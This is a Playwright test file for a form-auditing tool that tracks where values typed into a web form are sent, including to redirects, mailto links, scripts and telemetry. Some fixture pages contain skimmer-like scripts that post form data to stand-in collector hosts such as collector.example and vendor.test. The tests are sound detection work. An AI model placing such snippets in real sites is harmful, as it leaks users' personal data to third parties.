import { expect, test } from '@playwright/test';
import { fillOn, formPage, type FillRun } from './fill-site.js';
import type { Site } from './logging-server.js';

const fields = `<label>E-mail <input type="email" name="email" id="email" aria-required="true"></label>
  <label>Full name <input name="name" id="name"></label>`;
const results = ({ filled }: FillRun): string[] =>
  filled.trials.map(trial => `${trial.filled} ${trial.result}`);
const hopsOf = ({ filled }: FillRun): string[] =>
  (filled.trials.at(-1)?.hops ?? []).map(
    hop => `${hop.method} ${hop.url} ${hop.status} ${hop.carriesValues ? 'values' : 'none'}`,
  );
const submission = ({ filled }: FillRun) => filled.transmissions.filter(({ isSubmission }) => isSubmission);

const siteWith =
  (page: { body: string }, answer: Site): Site =>
  request =>
    request.path.split('?')[0] === '/' && request.host === 'www.mpro.org' ? page : answer(request);

test('the server refuses: an error status, or the form again with an error at a field', async () => {
  const form = formPage(
    `<form novalidate action="/join" method="post">${fields}<button>Join</button></form>`,
  );
  const strict: Site = ({ body }) =>
    body.includes('%40') ? { body: 'welcome' } : { status: 422, body: form.body };
  const refused = await fillOn(siteWith(form, strict), { submit: 'real' });
  expect(results(refused)).toEqual(['empty refused-by-server', 'required-only sent', 'full sent']);

  const again = form.body
    .replace('<label>Full', '<p class="field-error" id="e">Please give your name</p><label>Full')
    .replace('id="name"', 'id="name" aria-invalid="true" aria-describedby="e"');
  const polite: Site = ({ body }) => (/name=\w/.test(body) ? { body: 'welcome' } : { body: again });
  const shown = await fillOn(siteWith(form, polite), { submit: 'real' });
  expect(results(shown)).toEqual(['empty refused-by-server', 'required-only refused-by-server', 'full sent']);
  expect(shown.filled.trials[1]?.refusedFields).toEqual([
    { selector: '#name', message: 'Please give your name' },
  ]);
});

test('the form comes again with an error at a row or at a group of choices: that names them, and not what stands beside', async () => {
  const form = (wrong: string): { body: string } =>
    formPage(
      `<form method="post" action="/join" novalidate><fieldset class="${wrong}"><legend>Name</legend><label>First <input name="first" id="first"></label><label>Nickname <input name="nick" id="nick"></label></fieldset>
       <div class="row ${wrong}"><label>Organization <input name="org" id="org"></label></div><div class="row"><label>Fax <input name="fax" id="fax"></label></div>
       <fieldset class="${wrong}"><legend>Consent</legend><label><input type="checkbox" name="yes" id="yes"> You may call me</label></fieldset><button>Join</button></form>`,
    );
  const { filled } = await fillOn(
    ({ method, body }) => (method === 'POST' && !body.includes('org=O') ? form('has-error') : form('')),
    { submit: 'real' },
  );
  expect(filled.trials[0]).toMatchObject({ filled: 'empty', result: 'refused-by-server' });
  expect(filled.trials[0]?.refusedFields.map(({ selector }) => selector)).toEqual(['#org', '#yes']);
});

test('a redirect that repeats the body to a third party is a hop with values; one that does not is none', async () => {
  const form = formPage(`<form action="/join" method="post">${fields}<button>Join</button></form>`);
  const to =
    (status: number, location: string): Site =>
    ({ path }) =>
      path === '/join' ? { status, headers: { location } } : { body: 'thanks' };
  const kept = await fillOn(siteWith(form, to(307, 'https://collector.example/in')), { submit: 'real' });
  expect(hopsOf(kept)).toEqual([
    'POST https://www.mpro.org/join 307 values',
    'POST https://collector.example/in 200 values',
  ]);
  const dropped = await fillOn(siteWith(form, to(303, '/thanks')), { submit: 'real' });
  expect(hopsOf(dropped)).toEqual([
    'POST https://www.mpro.org/join 303 values',
    'GET https://www.mpro.org/thanks 200 none',
  ]);
  const plain = await fillOn(siteWith(form, to(302, 'http://www.mpro.org/thanks')), { submit: 'real' });
  expect(hopsOf(plain)).toEqual([
    'POST https://www.mpro.org/join 302 values',
    'GET http://www.mpro.org/thanks 200 none',
  ]);
});

test('a form to plain http shows its hop whether or not the browser warns, and mailto is not tried', async () => {
  const insecure = formPage(
    `<form action="http://www.mpro.org/join" method="post">${fields}<button>Join</button></form>`,
  );
  const run = await fillOn(siteWith(insecure, () => ({ body: 'ok' })));
  expect(hopsOf(run)).toEqual(['POST http://www.mpro.org/join 0 values']);
  const mail = formPage(
    `<form action="mailto:info@mpro.org" method="post" enctype="text/plain">${fields}<button>Join</button></form>`,
  );
  const mailed = await fillOn(siteWith(mail, () => ({ body: 'ok' })));
  expect(hopsOf(mailed)).toEqual(['POST mailto:info@mpro.org 0 values']);
  expect(mailed.raw).not.toContain('example.');
});

test('a form that opens a tab, and one whose fields a script sends, are submissions like any other', async () => {
  const tab = formPage(
    `<form action="/join" method="post" target="_blank" enctype="multipart/form-data">${fields}<input type="file" name="cv" aria-label="CV"><button>Join</button></form>`,
  );
  const opened = await fillOn(siteWith(tab, () => ({ body: 'ok' })));
  expect(results(opened)).toEqual(['empty stopped', 'required-only stopped', 'full stopped']);
  expect(submission(opened).map(({ url, channel }) => [url, channel])).toEqual([
    ['https://www.mpro.org/join', 'navigation'],
  ]);
  const file = opened.filled.typed.find(({ label }) => label === 'CV')?.value ?? 'no file';
  expect(submission(opened)[0]?.sightings.map(({ field }) => field)).toContain('input[name="cv"]');
  expect(opened.raw).not.toContain(file);

  const scripted = formPage(
    `<form>${fields}<button>Join</button></form><p role="status"></p>`,
    `document.forms[0].addEventListener('submit', async e => { e.preventDefault(); navigator.sendBeacon('/collect', '{"event":"submit"}');
      const r = await fetch('/api/join', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(Object.fromEntries(new FormData(e.target))) });
      document.querySelector('[role=status]').textContent = r.ok ? 'thanks' : 'no'; });`,
  );
  const api: Site = ({ path, body }) => ({
    status: path === '/api/join' && !body.includes('@') ? 400 : 200,
    body: '{}',
  });
  const sent = await fillOn(siteWith(scripted, api), { submit: 'real' });
  expect(results(sent)).toEqual(['empty refused-by-server', 'required-only sent', 'full sent']);
  expect(hopsOf(sent)).toEqual(['POST https://www.mpro.org/api/join 200 values']);
});

test('a form that closes its dialog is accepted, though it sends nothing; one that a script holds open is refused', async () => {
  const dialog = (script: string) =>
    formPage(
      `<dialog id="d"><form method="dialog"><p>Want our newsletter?</p>${fields}<button>Subscribe</button></form></dialog>`,
      `document.getElementById('d').showModal(); ${script}`,
    );
  const closing = await fillOn(
    siteWith(dialog(''), () => ({ body: 'ok' })),
    { submit: 'real' },
  );
  expect(results(closing)).toEqual(['empty sent', 'required-only sent', 'full sent']);
  expect(closing.filled.transmissions).toEqual([]);
  const holding = dialog("document.forms[0].addEventListener('submit', event => event.preventDefault());");
  const held = await fillOn(
    siteWith(holding, () => ({ body: 'ok' })),
    { submit: 'real' },
  );
  expect(results(held).at(-1)).toBe('full refused-by-script');
});

test('a script that refuses names the fields it marks', async () => {
  const form = formPage(
    `<form novalidate action="/join" method="post"><div>${fields}</div><div><label>Phone <input name="phone" id="phone"></label><span class="error-text" hidden>Phone is needed</span></div><button>Join</button></form>`,
    `document.forms[0].addEventListener('submit', e => { if (!phone.value) { e.preventDefault(); document.querySelector('.error-text').hidden = false; } });`,
  );
  const run = await fillOn(siteWith(form, () => ({ body: 'ok' })));
  expect(results(run)).toEqual([
    'empty refused-by-script',
    'required-only refused-by-script',
    'full stopped',
  ]);
  expect(run.filled.trials[1]?.refusedFields).toEqual([{ selector: '#phone', message: 'Phone is needed' }]);
});

test('a GET form puts what was typed into the address of the next page', async () => {
  const form = formPage(`<form action="/results">${fields}<button>Search</button></form>`);
  const run = await fillOn(
    siteWith(form, () => ({ body: 'results' })),
    { submit: 'real' },
  );
  expect(run.filled.pageUrlsWithValues).toEqual([
    expect.stringMatching(/^https:\/\/www\.mpro\.org\/results\?email=.+%40example/),
  ]);
  const dry = await fillOn(siteWith(form, () => ({ body: 'results' })));
  expect(dry.filled.pageUrlsWithValues).toHaveLength(1);
  expect(dry.requests.filter(({ path }) => path.startsWith('/results') && path.includes('%40'))).toEqual([]);
});

test('what a script sends to a third party in place of a form is its submission, and a link may submit', async () => {
  const injected = formPage(
    `<form action="https://collector.example/in" method="post">${fields}<button>Join</button></form>`,
    `document.forms[0].addEventListener('submit', e => { e.preventDefault(); fetch(e.target.action, { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(e.target)) }); });`,
  );
  const run = await fillOn(siteWith(injected, () => ({ body: 'ok' })));
  expect(submission(run).map(({ host, isTelemetry }) => [host, isTelemetry])).toEqual([
    ['collector.example', false],
  ]);
  const linked = formPage(
    `<form action="/join" method="post" id="f"><label>E-mail <input type="email" name="email"></label><label>Message <textarea name="text"></textarea></label><a href="javascript:post('send')">Send</a></form>`,
    `function post() { document.forms[0].submit() }`,
  );
  const pressed = await fillOn(
    siteWith(linked, () => ({ body: 'ok' })),
    { submit: 'real' },
  );
  expect(results(pressed)).toEqual(['empty sent', 'full sent']);
});

test('data posted unseen to a third party is its submission when the button was pressed, telemetry while typing', async () => {
  const posts = (event: string, more: string): { body: string } =>
    formPage(
      `<form id="f">${fields}<button>Join</button></form>`,
      `f.addEventListener('submit', e => e.preventDefault()); f.addEventListener('${event}', () => fetch('https://vendor.test/macros/s/1/exec', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f)) })${more});`,
    );
  const run = await fillOn(siteWith(posts('submit', ''), () => ({ body: 'ok' })));
  expect(results(run).at(-1)).toBe('full stopped');
  expect(submission(run).map(({ host, isTelemetry }) => [host, isTelemetry])).toEqual([
    ['vendor.test', false],
  ]);
  // Not even empty does a form reach its server in a dry run.
  expect(run.requests.filter(({ host }) => host === 'vendor.test')).toEqual([]);
  const early = await fillOn(siteWith(posts('change', '.catch(() => 0)'), () => ({ body: 'ok' })));
  const told = early.filled.transmissions.map(({ host, isTelemetry }) => [host, isTelemetry]);
  expect(told.length).toBeGreaterThan(0);
  expect(told).toEqual(told.map(() => ['vendor.test', true]));
});

test('what got reports before anything was typed gets a report when the button is pressed too', async () => {
  const posts = (early: string): { body: string } =>
    formPage(
      `<form id="f">${fields}<button>Join</button></form>`,
      `const tell = (name, more) => fetch('https://vendor.test/v2/e', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify({ name, more })) });
       ${early}f.addEventListener('submit', e => { e.preventDefault(); const typed = Object.fromEntries(new FormData(f)); tell('joined', typed);
       fetch('/join', { method: 'POST', body: JSON.stringify(typed) }); });`,
    );
  const told = async (early: string): Promise<string[][]> => {
    const run = await fillOn(
      siteWith(posts(early), () => ({ body: 'ok' })),
      { submit: 'real' },
    );
    return run.filled.transmissions.map(({ host, isSubmission, isTelemetry }) => [
      host,
      isSubmission ? 'submission' : isTelemetry ? 'report' : 'other',
    ]);
  };
  expect(await told("tell('view'); ")).toEqual([
    ['vendor.test', 'report'],
    ['www.mpro.org', 'submission'],
  ]);
  expect((await told('')).filter(([, what]) => what === 'report')).toEqual([]);
});

for (const way of [
  'location.href = url',
  'open(url)',
  "Object.assign(document.createElement('a'), { href: url }).click()",
])
  test(`an e-mail that a script opens with what was typed is a hand-over; one that holds nothing of it is none: ${way}`, async () => {
    const opens = (body: string) =>
      formPage(
        `<form id="f">${fields}<button>Join</button></form>`,
        `f.addEventListener('submit', e => { e.preventDefault(); const v = Object.values(Object.fromEntries(new FormData(f))).join(' '); const url = 'mailto:info@mpro.org?subject=Join&body=' + ${body}; ${way}; });`,
      );
    const handed = await fillOn(siteWith(opens('encodeURIComponent(v)'), () => ({ body: 'ok' })));
    expect(results(handed).at(-1)).toBe('full not-tried');
    expect(
      handed.filled.transmissions.map(({ channel, scheme, party, stopped }) => [
        channel,
        scheme,
        party,
        stopped,
      ]),
    ).toEqual([['hand-over', 'mailto', 'first', true]]);
    const bare = await fillOn(siteWith(opens("'Hello'"), () => ({ body: 'ok' })));
    expect(results(bare).at(-1)).toBe('full refused-by-script');
    expect(bare.filled.transmissions).toEqual([]);
  });

for (const [button, leads] of [
  ['Call me back', true],
  ['Send feedback', true],
  ['Go back', false],
  ['Zurück', false],
] as const)
  test(`a button "${button}" ${leads ? 'submits' : 'does not submit'}`, async () => {
    const page = formPage(
      `<form action="/search"><input name="q" aria-label="Search"><button>Search</button></form><div><input type="email" id="email" aria-label="E-mail"><button type="button" id="go">${button}</button></div>`,
      `go.onclick = () => fetch('/api/call', { method: 'POST', body: JSON.stringify({ e: email.value }) });`,
    );
    const run = await fillOn(
      siteWith(page, () => ({ body: 'ok' })),
      { nth: 1 },
    );
    expect(run.filled.transmissions.map(({ url }) => url)).toEqual(
      leads ? ['https://www.mpro.org/api/call'] : [],
    );
  });
